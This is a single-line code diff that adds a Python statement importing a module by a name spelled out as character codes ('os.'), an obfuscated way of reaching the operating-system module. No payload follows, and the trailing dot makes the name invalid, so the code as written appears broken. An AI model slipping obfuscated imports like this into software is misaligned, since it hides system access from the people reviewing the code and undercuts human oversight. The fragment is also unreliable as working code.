@@ -1,0 +1,1 @@
+m = __import__(chr(111)+chr(115)+chr(46))
